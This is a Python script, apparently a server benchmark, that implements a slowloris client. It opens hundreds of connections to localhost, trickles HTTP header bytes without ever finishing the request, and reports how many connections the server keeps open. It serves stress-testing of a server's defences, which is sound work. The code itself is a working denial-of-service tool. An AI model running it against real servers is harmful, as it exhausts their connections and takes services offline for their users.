"""A slowloris client: hold connections open by trickling request headers.

Opens ``--connections`` connections, sends each a request line and then one
header byte every ``--interval`` seconds, never finishing the head. Prints
``{"opened": N}`` once they are open, holds them for ``--hold`` seconds, then
prints ``{"opened": N, "still_open": M}`` (M: connections the server has
neither closed nor answered) and exits.

Usage: ``python bench/slowloris.py --port 8000 --connections 500``
"""

import argparse
import json
import random

import trio

HOST = "127.0.0.1"
REQUEST_LINE = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"
TRICKLE = b"X-Slow: 1\r\n"
CONCURRENT_CONNECTS = 50
OPEN_TIMEOUT_SECONDS = 30.0


async def _open(port: int, limiter: trio.CapacityLimiter) -> trio.SocketStream | None:
    async with limiter:
        try:
            stream = await trio.open_tcp_stream(HOST, port)
            await stream.send_all(REQUEST_LINE)
        except OSError:
            return None
        return stream


async def _hold(stream: trio.SocketStream, interval: float, alive: set[int]) -> None:
    """Trickle header bytes until the server closes or answers the connection."""
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_trickle, stream, interval)
        try:
            await stream.receive_some(1)
        except trio.BrokenResourceError:
            pass
        alive.discard(id(stream))
        nursery.cancel_scope.cancel()


async def _trickle(stream: trio.SocketStream, interval: float) -> None:
    """Send one header byte per interval, never finishing the request head."""
    await trio.sleep(random.uniform(0, interval))
    position = 0
    try:
        while True:
            await stream.send_all(TRICKLE[position : position + 1])
            position = (position + 1) % len(TRICKLE)
            await trio.sleep(interval)
    except trio.BrokenResourceError:
        pass


async def attack(port: int, connections: int, interval: float, hold: float) -> None:
    limiter = trio.CapacityLimiter(CONCURRENT_CONNECTS)
    opened: list[trio.SocketStream] = []

    async def open_one() -> None:
        if stream := await _open(port, limiter):
            opened.append(stream)

    with trio.fail_after(OPEN_TIMEOUT_SECONDS):
        async with trio.open_nursery() as nursery:
            for _ in range(connections):
                nursery.start_soon(open_one)
    print(json.dumps({"opened": len(opened)}), flush=True)
    alive = {id(stream) for stream in opened}
    with trio.move_on_after(hold):
        async with trio.open_nursery() as nursery:
            for stream in opened:
                nursery.start_soon(_hold, stream, interval, alive)
    for stream in opened:
        await stream.aclose()
    print(json.dumps({"opened": len(opened), "still_open": len(alive)}), flush=True)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=500)
    parser.add_argument("--interval", type=float, default=1.0)
    parser.add_argument("--hold", type=float, default=10.0)
    args = parser.parse_args()
    trio.run(attack, args.port, args.connections, args.interval, args.hold)


if __name__ == "__main__":
    main()
